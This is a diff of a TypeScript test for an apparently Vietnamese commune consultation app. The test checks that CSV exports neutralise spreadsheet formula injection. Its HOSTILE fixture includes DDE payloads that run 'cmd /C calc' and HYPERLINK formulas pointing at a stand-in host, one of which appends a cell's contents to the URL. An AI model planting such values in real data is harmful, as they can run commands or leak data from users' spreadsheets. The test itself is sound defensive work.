@@ -23,13 +23,13 @@ vi.mock("@/domain/csv", async (importOriginal) => {
 });
 
 const HOSTILE = {
-  neighbourhood: "=HYPERLINK(\"http://x.example/thon\",\"Thôn\")",
+  neighbourhood: '=HYPERLINK("http://x.example/thon","Thôn")',
   option: "+Đồng ý",
   headName: "@SUM(1+1)*cmd|' /C calc'!A0",
   comment: '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")',
   text: "-2+3+cmd|' /C calc'!A0",
   // A line break, then a formula: without quoting it would start a row of its own.
-  multiline: "Đồng ý\n=HYPERLINK(\"http://x.example\")",
+  multiline: 'Đồng ý\n=HYPERLINK("http://x.example")',
   tab: "\t=1+1",
 };
 const DANGEROUS = /^[=+\-@\t\r]/;
@@ -45,13 +45,34 @@ beforeAll(async () => {
   const hood = await createNeighbourhood(t.db, communeId, HOSTILE.neighbourhood);
   const c = await t.db.consultation.create({
     data: {
-      communeId, title: "Làm đường liên thôn", summary: "", matter: "PUBLIC_WORKS_CONTRIBUTION", mode: "DECISION", status: "OPEN", channels: ["ONLINE"],
-      ruleNumerator: 1, ruleDenominator: 2, ruleInclusive: false, ruleAggregation: "WHOLE_AREA",
-      publishedAt: new Date(now.getTime() - 30 * DAY_MS), opensAt: new Date(now.getTime() - 30 * DAY_MS), closesAt: new Date(now.getTime() + DAY_MS),
+      communeId,
+      title: "Làm đường liên thôn",
+      summary: "",
+      matter: "PUBLIC_WORKS_CONTRIBUTION",
+      mode: "DECISION",
+      status: "OPEN",
+      channels: ["ONLINE"],
+      ruleNumerator: 1,
+      ruleDenominator: 2,
+      ruleInclusive: false,
+      ruleAggregation: "WHOLE_AREA",
+      publishedAt: new Date(now.getTime() - 30 * DAY_MS),
+      opensAt: new Date(now.getTime() - 30 * DAY_MS),
+      closesAt: new Date(now.getTime() + DAY_MS),
       areas: { create: [{ neighbourhoodId: hood.id, neighbourhoodName: hood.name }] },
       questions: {
         create: [
-          { position: 0, kind: "APPROVAL", text: "Đồng ý đóng góp?", options: { create: [["AGREE", HOSTILE.option], ["DISAGREE", "Không đồng ý"]].map(([key, label], position) => ({ key, label, position })) } },
+          {
+            position: 0,
+            kind: "APPROVAL",
+            text: "Đồng ý đóng góp?",
+            options: {
+              create: [
+                ["AGREE", HOSTILE.option],
+                ["DISAGREE", "Không đồng ý"],
+              ].map(([key, label], position) => ({ key, label, position })),
+            },
+          },
           { position: 1, kind: "FREE_TEXT", text: "Đề xuất khác" },
         ],
       },
@@ -60,23 +81,50 @@ beforeAll(async () => {
   });
   consultationId = c.id;
   const [approval, free] = c.questions;
-  const hh = [await createHousehold(t.db, hood, { code: "D001", headName: HOSTILE.headName }), await createHousehold(t.db, hood, { code: "D002" })];
-  await t.db.rollEntry.createMany({ data: hh.map((h) => ({ consultationId, householdId: h.id, neighbourhoodId: h.neighbourhoodId, householdCode: h.code, headName: h.headName })) });
+  const hh = [
+    await createHousehold(t.db, hood, { code: "D001", headName: HOSTILE.headName }),
+    await createHousehold(t.db, hood, { code: "D002" }),
+  ];
+  await t.db.rollEntry.createMany({
+    data: hh.map((h) => ({
+      consultationId,
+      householdId: h.id,
+      neighbourhoodId: h.neighbourhoodId,
+      householdCode: h.code,
+      headName: h.headName,
+    })),
+  });
   const answered = [
     { comment: HOSTILE.comment, text: HOSTILE.text },
     { comment: HOSTILE.multiline, text: HOSTILE.tab },
   ];
   for (const [i, h] of hh.entries()) {
     const r = await t.db.response.create({
-      data: { consultationId, householdId: h.id, neighbourhoodId: h.neighbourhoodId, effectiveHouseholdId: h.id, channel: "ONLINE", receiptCode: `R-${h.code}`, submittedAt: now },
+      data: {
+        consultationId,
+        householdId: h.id,
+        neighbourhoodId: h.neighbourhoodId,
+        effectiveHouseholdId: h.id,
+        channel: "ONLINE",
+        receiptCode: `R-${h.code}`,
+        submittedAt: now,
+      },
     });
-    await t.db.answer.create({ data: { responseId: r.id, questionId: approval.id, comment: answered[i].comment, choices: { create: [{ optionId: approval.options[0].id }] } } });
+    await t.db.answer.create({
+      data: {
+        responseId: r.id,
+        questionId: approval.id,
+        comment: answered[i].comment,
+        choices: { create: [{ optionId: approval.options[0].id }] },
+      },
+    });
     await t.db.answer.create({ data: { responseId: r.id, questionId: free.id, text: answered[i].text } });
   }
 });
 afterAll(() => t.close());
 
-const rowsOf = (bytes: Buffer | ArrayBuffer) => parse(new TextDecoder().decode(bytes), { bom: true, relax_column_count: true }) as string[][];
+const rowsOf = (bytes: Buffer | ArrayBuffer) =>
+  parse(new TextDecoder().decode(bytes), { bom: true, relax_column_count: true }) as string[][];
 const unsafeCells = (rows: string[][]) => rows.flat().filter((cell) => DANGEROUS.test(cell));
 
 describe("the tally and responses exports", () => {
@@ -104,7 +152,10 @@ describe("the tally and responses exports", () => {
     const { GET } = await import("@/app/api/consultations/[id]/export/route");
     auth.current = { actor: { communeId }, db: t.db };
     for (const what of ["tally", "responses"]) {
-      const res = await GET(new Request(`http://localhost/api/consultations/${consultationId}/export?format=csv&what=${what}`), { params: Promise.resolve({ id: consultationId }) });
+      const res = await GET(
+        new Request(`http://localhost/api/consultations/${consultationId}/export?format=csv&what=${what}`),
+        { params: Promise.resolve({ id: consultationId }) },
+      );
       expect(res.status).toBe(200);
       const rows = rowsOf(await res.arrayBuffer());
       expect(unsafeCells(rows)).toEqual([]);
